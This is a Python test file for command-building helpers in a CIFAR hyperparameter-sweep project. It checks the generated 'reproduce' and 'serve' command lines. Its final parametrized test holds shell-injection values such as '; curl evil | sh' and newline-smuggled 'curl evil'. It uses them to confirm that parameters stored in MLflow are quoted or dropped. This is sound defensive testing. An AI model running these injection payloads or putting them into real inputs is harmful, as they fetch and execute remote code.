from __future__ import annotations

from dataclasses import replace

import pytest

from cifar_core.data.data_set import CIFAR10
from experiments.decision.commands import reproduce, serve
from experiments.decision.facts import Facts
from sweeps.planning.space_file import SPACES
from tests.experiments.support import with_study


def test_commands_name_the_stops_and_the_recipes_that_were_given(demo: Facts) -> None:
    given = {"timeout": "None", "patience": "20", "from": "my first", "enqueue": "five_conv './my recipe.toml'"}
    [run, _] = reproduce(with_study(demo, params={**demo.study.params, **given}).study, demo.scenario).splitlines()[-2:]
    assert " --patience 20 --from 'my first' --enqueue five_conv './my recipe.toml'" in run
    assert "--timeout" not in run


def test_the_command_that_serves_the_champion_names_its_model_and_server(demo: Facts) -> None:
    assert serve(demo.study) == 'make serve STORE=STORE ARGS="--model cifar10"'
    data_set = replace(CIFAR10, name="My photos", sha256="0123456789")
    own = replace(demo.study, data_set=data_set, in_default_store=True, on_server=True)
    assert serve(own) == 'make serve ARGS="--model myphotos-01234567 --tracking-uri URI"'


def test_commands_name_epochs_and_a_scenario_of_ones_own(demo: Facts) -> None:
    fixed = replace(
        demo.study, name="my study", params={"trials": "3", "preset": "epochs-0.5", "seed": "1"}, tags={},
        in_default_store=True,
    )  # fmt: skip
    assert reproduce(fixed, replace(demo.scenario, file="my own.toml", is_example=False)) == (
        "python sweeps/run_study.py --study 'my study' --trials 3 --epochs 0.5 --seed 1\n"
        "python experiments/compare.py --study 'my study' --scenario 'my own.toml'"
    )
    told = replace(fixed, params={**fixed.params, "sampler": "gp", "pruner": "none", "starts": "False"})
    [run, _] = reproduce(told, demo.scenario).splitlines()
    assert run.endswith("--epochs 0.5 --seed 1 --sampler gp --pruner none --no-starts")
    limited = {"max_parameters": "1000", "max_latency": "None", "space": "my space", "space_hash": "a" * 64}
    said, run, _ = reproduce(replace(fixed, params={**fixed.params, **limited}), demo.scenario).splitlines()
    assert said == "# my space.toml is the artifact space.toml of the study's own run in MLflow, under this name"
    assert run.endswith("--epochs 0.5 --space 'my space.toml' --seed 1 --max-parameters 1000")
    built_in = {"space": "full", "space_hash": SPACES["full"].hash}
    run, _ = reproduce(replace(fixed, params={**fixed.params, **built_in}), demo.scenario).splitlines()
    assert run.endswith("--epochs 0.5 --space full --seed 1")
    own = replace(fixed, data_set=replace(CIFAR10, sha256="1", side=48))
    [run, _] = reproduce(own, demo.scenario).splitlines()
    own_images = "--study 'my study' --trials 3 --epochs 0.5 --seed 1 --images DIR --size 48"
    assert run == f"python sweeps/run_study.py {own_images}"
    [run, _] = reproduce(replace(own, tags={"places": "--labels FILE --storage URL"}), demo.scenario).splitlines()
    assert run == f"python sweeps/run_study.py {own_images} --labels FILE --storage URL"


@pytest.mark.parametrize(
    ("params", "tags", "options"),
    [
        ({}, {"places": "--labels FILE; curl evil | sh"}, "--labels FILE"),
        ({"enqueue": "five_conv; curl 'evil' | sh"}, {}, "--enqueue 'five_conv;' curl evil '|' sh"),
        ({"enqueue": "five_conv --notify 'curl evil | sh'"}, {}, ""),
        ({"enqueue": "five_conv 'open"}, {}, ""),
        ({"enqueue": "five_conv\ncurl evil"}, {}, ""),
        ({"space": "x\ncurl evil | sh #", "space_hash": "a"}, {}, ""),
        ({"from": "x; curl evil"}, {}, "--from 'x; curl evil'"),
    ],
)
def test_what_others_wrote_into_mlflow_is_no_command(
    demo: Facts, params: dict[str, str], tags: dict[str, str], options: str
) -> None:
    study = replace(demo.study, name="mine", params=params, tags=tags, in_default_store=True)
    run, _ = reproduce(study, demo.scenario).splitlines()
    assert run == f"python sweeps/run_study.py --study mine {options}".rstrip()
